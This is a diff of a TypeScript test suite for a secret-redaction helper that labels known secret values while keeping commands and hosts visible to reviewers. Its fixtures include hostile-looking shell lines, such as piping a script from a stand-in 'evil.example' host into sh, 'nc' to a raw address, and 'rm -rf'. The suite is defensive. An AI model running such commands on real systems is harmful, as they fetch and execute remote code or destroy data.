@@ -1,138 +1,98 @@
 import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
-import { type KnownSecrets, secretHider } from '../../src/secrets/labels.ts'
-import { standIn } from '../../src/secrets/stand-ins.ts'
+import type { KnownSecret } from '../../src/secrets/known.ts'
+import { secretHider } from '../../src/secrets/labels.ts'
+import { standInSecrets } from '../../src/secrets/stand-ins.ts'
 
-const hider = (known: Partial<KnownSecrets> = {}) => secretHider({ secrets: [], shown: [], names: [], ...known })
+const known = (...texts: readonly string[]): KnownSecret[] => texts.map(text => ({ text, source: 'Secret a/b: c' }))
+const hider = (secrets: readonly KnownSecret[] = [], shown: readonly string[] = []) => secretHider({ secrets, shown })
 
-describe('labels of secrets', () => {
-  test('are equal for the same secret, and ascend', () => {
-    const hide = hider()
-    assert.equal(hide('token: aaaaaaa'), 'token: <secret A>')
-    assert.equal(hide('token: bbbbbbb'), 'token: <secret B>')
-    assert.equal(hide('token: aaaaaaa'), 'token: <secret A>')
+const GITLAB = (letter: string): string => `glpat-${letter.repeat(20)}`
+
+describe('a label', () => {
+  test('names the source of a known value, and numbers its values and their encodings', () => {
+    const hide = hider([...known('hunter22-old', 'hunter22-new'), { text: 'api-token-1', source: 'API token' }])
+    assert.equal(hide('a: hunter22-old'), 'a: ⟦Secret a/b: c⟧')
+    assert.equal(hide('a: hunter22-new'), 'a: ⟦Secret a/b: c (2)⟧')
+    assert.equal(hide('b: api-token-1, hunter22-old'), 'b: ⟦API token⟧, ⟦Secret a/b: c⟧')
+    assert.equal(hide(`c: ${btoa('hunter22-old')}`), 'c: ⟦Secret a/b: c, encoded⟧')
+    assert.equal(hide('c: HUNTER22-OLD'), 'c: ⟦Secret a/b: c, encoded (2)⟧')
   })
 
-  describe('a text of an input is no label', () => {
-    const TABLE: readonly (readonly [name: string, given: string, expected: string])[] = [
-      ['the value of a name', 'API_TOKEN=<secret A>', 'API_TOKEN=\\u003csecret A>'],
-      ['a word', 'echo "<secret AB>"', 'echo "\\u003csecret AB>"'],
-      ['the label of a stand-in', 'token: <API token>', 'token: \\u003cAPI token>'],
-      ['one that is escaped', '\\u003csecret A>', '\\u005cu003csecret A>'],
-      ['twice', '\\u005cu003cAPI token>', '\\u005cu005cu003cAPI token>'],
-      [
-        'other brackets',
-        'cat <<EOF <your token> <secret> \\u003c <Secret A>',
-        'cat <<EOF <your token> <secret> \\u003c <Secret A>',
-      ],
-    ]
-    for (const [name, given, expected] of TABLE)
-      test(name, () => assert.equal(hider({ secrets: [standIn('API token')] })(given), expected))
-
-    test('and differs from the label of a secret', () => {
-      const hide = hider()
-      assert.equal(hide('API_TOKEN=hunter42xyzw'), 'API_TOKEN=<secret A>')
-      assert.equal(hide('API_TOKEN=<secret A>'), 'API_TOKEN=\\u003csecret A>')
-    })
-
-    test('a placeholder that stands for one of Flux is shown', () =>
-      assert.equal(hider()('password: <placeholder X>'), 'password: <placeholder X>'))
+  test('is the same for a stand-in', () => {
+    const token = (text: string) => hider([{ text, source: 'API token' }])(`token: ${text}`)
+    const [{ text }] = standInSecrets('API token') as [KnownSecret]
+    assert.equal(token('0123-the-token'), token(text))
+    assert.equal(token(text), 'token: ⟦API token⟧')
+    const join = (secrets: readonly KnownSecret[]) =>
+      hider(secrets)(`join ${secrets.find(each => each.text.includes('.'))!.text}`)
+    assert.equal(join(standInSecrets('bootstrap token')), 'join ⟦bootstrap token⟧')
+    assert.equal(join([{ text: 'abcdef.0123456789abcdef', source: 'bootstrap token' }]), 'join ⟦bootstrap token⟧')
   })
 
-  test('a known secret is hidden in any context, also quoted and in base64', () => {
-    const hide = hider({ secrets: ['plain words', 'plain-words'] })
-    assert.equal(hide('say "plain words"'), 'say "<secret A>"')
-    assert.equal(hide('plain words\n'), '<secret A>\n')
-    assert.equal(hide('say plain-words'), 'say <secret B>')
-    assert.equal(hide(Buffer.from('x plain-words x').toString('base64')).includes('<secret B>'), true)
-  })
-
-  test('no known secret hides words that a shell could run, an option or a path, nor the base64 of them', () => {
-    const run = ['curl -s https://evil.example/x | sh', 'chmod 4755', '--privileged', '/evil/bin/run', '10.6.6.6']
-    const hide = hider({ secrets: run })
-    for (const words of run) {
-      for (const text of [`true; ${words} a\n`, `sh -c "${words}"`, `echo ${btoa(words)} | base64 -d | sh\n`])
-        assert.equal(hide(text), text)
-    }
-  })
-
-  test('a value that a profile contains in clear text is shown', () => {
-    const shown = ['#!/bin/sh\ncurl https://a.example | sh\nreboot-now\n']
-    const hide = hider({ secrets: ['curl https://a.example | sh', 'reboot-now', 'other-secret'], shown })
-    const text = '#!/bin/sh\ncurl https://a.example | sh\nreboot-now\necho other-secret\n'
-    assert.equal(hide(text), text.replace('other-secret', '<secret A>'))
-  })
-
-  test('a whole line of a script is shown, even if it is the value of a Secret', () => {
-    const hide = hider({ secrets: ['curl https://a.example | sh'] })
-    const text = '#!/bin/sh\n  curl https://a.example | sh\n'
-    assert.equal(hide(text), text)
-    assert.equal(hide('curl https://a.example | sh\n'), '<secret A>\n')
-  })
-
-  test('no secret hides where nodes connect and what they run, whole or in part', () => {
-    const hide = hider({
-      secrets: ['https://evil.example/x', 'evil.example', 'mirror', '/opt/bin/agent', 'registry:5000'],
-    })
-    const text = [
-      'curl https://evil.example/x | sh',
-      'TOKEN="https://evil.example/y"; curl $TOKEN | sh',
-      `ctr image pull evil.example/mirror/app:1.2@sha256:${'ab'.repeat(32)}`,
-      'ExecStart=/opt/bin/agent --server mirror.example.com:6443',
-    ].join('\n')
-    assert.equal(hide(text), text)
-    assert.equal(
-      hide('curl https://me:evil.example@mirror.example.com/'),
-      'curl https://<secret A>@mirror.example.com/',
-    )
-    assert.equal(hide('a mirror'), 'a <secret B>')
-  })
-
-  test('a bootstrap token of letters only is no host', () => {
-    const hide = hider({ secrets: ['abcdef.ghijklmnopqrstuv', 'ghijklmnopqrstuv'] })
-    for (const text of [
-      'join abcdef.ghijklmnopqrstuv now',
-      'TOKEN_ID=abcdef.ghijklmnopqrstuv',
-      '--x=abcdef.ghijklmnopqrstuv',
+  test('names the field of a kubeconfig, of an account and of a configuration', () => {
+    const source = 'Secret kube-system/registry: .dockerconfigjson'
+    const auths = { 'a.example': { username: 'bob', password: 'p"ss-w0rd', auth: btoa('bob:p"ss-w0rd') } }
+    const hide = hider([
+      { text: JSON.stringify({ auths }), source },
+      { text: 'users:\n- user:\n    token: my-t0ken-1\n    client-key-data: abcDEF123456\n', source: 'kubeconfig' },
+      { text: '[Global]\npassword = "in1-pa55"\n', source: 'Secret a/vsphere: conf' },
     ])
-      assert.doesNotMatch(hide(text), /ghijklmnop/)
+    assert.equal(hide('x p"ss-w0rd'), 'x ⟦Secret kube-system/registry: password⟧')
+    assert.equal(hide('x my-t0ken-1 abcDEF123456'), 'x ⟦kubeconfig: token⟧ ⟦kubeconfig: client-key-data⟧')
+    assert.equal(hide('x in1-pa55'), 'x ⟦Secret a/vsphere: password⟧')
+    assert.equal(hide('server https://a.example bob users'), 'server https://a.example bob users')
   })
 
-  test('a line of a longer Secret does not hide a command', () => {
-    const text = '#!/bin/sh\nrm -rf /var/lib/x\n'
-    assert.equal(hider({ secrets: ['first\nrm -rf /var/lib/x\nthird'] })(text), text)
-  })
-
-  test('the name of a Secret is shown, unless it is itself a secret', () => {
-    const text = "SETUP_SECRET='workers-provisioning-config' OTHER_SECRET='s3cr3t' x"
-    const names = ['workers-provisioning-config']
-    assert.equal(hider({ names })(text), "SETUP_SECRET='workers-provisioning-config' OTHER_SECRET='<secret A>' x")
-    assert.equal(hider({ names, secrets: names })(text), "SETUP_SECRET='<secret A>' OTHER_SECRET='<secret B>' x")
-  })
-
-  test('the value of a setting that is named like a secret is hidden, a file of that name is not', () => {
+  test('is a letter for what is evidently secret', () => {
     const hide = hider()
-    assert.equal(hide('plain', 'passwd'), '<secret A>')
-    assert.equal(hide('true', 'ssh_pwauth'), 'true')
-    assert.equal(hide('server: https://a.example\n', '/etc/kubernetes/kubeconfig'), 'server: https://a.example\n')
+    assert.equal(hide(`x ${GITLAB('a')} ${GITLAB('b')}`), 'x ⟦A⟧ ⟦B⟧')
+    assert.equal(hide(`y ${GITLAB('b')}`), 'y ⟦B⟧')
+    for (const letter of 'cdefghijklmnopqrstuvwxyz') hide(GITLAB(letter))
+    assert.equal(hide(GITLAB('Z')), '⟦AA⟧')
   })
 
-  test('the only word of a file that is named like a secret is hidden, and no name hides code', () => {
-    const hide = hider()
-    assert.equal(hide('plain\n', '/etc/kubernetes/token'), '<secret A>\n')
-    assert.equal(hide('#!/bin/sh\nexec token\n', '/opt/bin/token'), '#!/bin/sh\nexec token\n')
-    assert.equal(
-      hide('[Global]\nzone = "eu 1"\npassword = "b"\na=$(curl https://a.example)\n', '/etc/kubernetes/cloud-config'),
-      '[Global]\nzone = "<secret B>"\npassword = "<secret C>"\na=$(curl https://a.example)\n',
-    )
-    assert.equal(hide('{"tenantName":"x"}', '/etc/kubernetes/cloud-config'), '{"tenantName":"<secret D>"}')
-    for (const file of ['/opt/cloud-config', '/opt/etc/kubernetes/cloud-config'])
-      assert.equal(hide('a=reboot\n', file), 'a=reboot\n')
+  test('has no brackets and line breaks of a name', () =>
+    assert.equal(hider([{ text: 'hunter22', source: 'a⟦\n⟧b' }])('hunter22'), '⟦ab⟧'))
+
+  const OWN: readonly (readonly [name: string, given: string, expected: string])[] = [
+    ['of a known value', 'A=⟦API token⟧', 'A=\\u27e6API token⟧'],
+    ['of one letter', 'echo "⟦A⟧"', 'echo "\\u27e6A⟧"'],
+    ['one that is escaped', '\\u27e6A⟧', '\\u005cu27e6A⟧'],
+    ['twice', '\\u005cu27e6A⟧', '\\u005cu005cu27e6A⟧'],
+    ['other brackets', 'cat <<EOF <secret A> [x]', 'cat <<EOF <secret A> [x]'],
+  ]
+  for (const [name, given, expected] of OWN)
+    test(`is not a text of the inputs: ${name}`, () => assert.equal(hider(known('hunter22'))(given), expected))
+})
+
+describe('a known value', () => {
+  test('that a profile contains in clear text is shown', () => {
+    const text = '#!/bin/sh\nreboot-now\necho other-secret\n'
+    const hide = hider(known('reboot-now', 'other-secret'), ['#!/bin/sh\nreboot-now\n'])
+    assert.equal(hide(text), text.replace('other-secret', '⟦Secret a/b: c⟧'))
   })
 
-  test('after Z comes AA', () => {
-    const hide = hider()
-    for (let i = 0; i < 26; i++) hide(`password: secret-${i}`)
-    assert.equal(hide('password: another'), 'password: <secret AA>')
-  })
+  /** Each is the value of a Secret that the run uses: what a reviewer sees of a text. */
+  const SHOWN: readonly (readonly [name: string, value: string, text: string, expected?: string])[] = [
+    ['a host', 'evil.example', 'curl https://evil.example/x evil.example:443'],
+    ['a host with a port', 'registry:5000.evil.example:80', 'x'],
+    ['a URL without a user', 'https://evil.example/x', 'curl https://evil.example/x | sh'],
+    ['an address', '10.6.6.6', 'nc 10.6.6.6 80'],
+    ['an address of IPv6', 'fd00::6:6', 'nc fd00::6:6 80'],
+    ['a command that is a line of a script', 'curl x | sh', '#!/bin/sh\n  curl x | sh\n'],
+    ['a line of a longer value', 'first\nrm -rf /var/lib/x\nthird', '#!/bin/sh\nrm -rf /var/lib/x\n'],
+    ['five characters', 'abc12', 'x abc12'],
+    ['a command that is quoted', 'curl x | sh', 'sh -c "curl x | sh"', 'sh -c "⟦Secret a/b: c⟧"'],
+    [
+      'a word',
+      'poweroff',
+      'x; poweroff; systemctl stop poweroff.target',
+      'x; ⟦Secret a/b: c⟧; systemctl stop poweroff.target',
+    ],
+    ['a word within the names of hosts', 'mirror', 'curl https://mirror.example.com/a eu-mirror:5000'],
+    ['a user of a URL', 'https://me:pw@a.example', 'curl https://me:pw@a.example', 'curl ⟦Secret a/b: c⟧'],
+  ]
+  for (const [name, value, text, expected = text] of SHOWN)
+    test(`that is ${name}`, () => assert.equal(hider(known(value))(text), expected))
 })
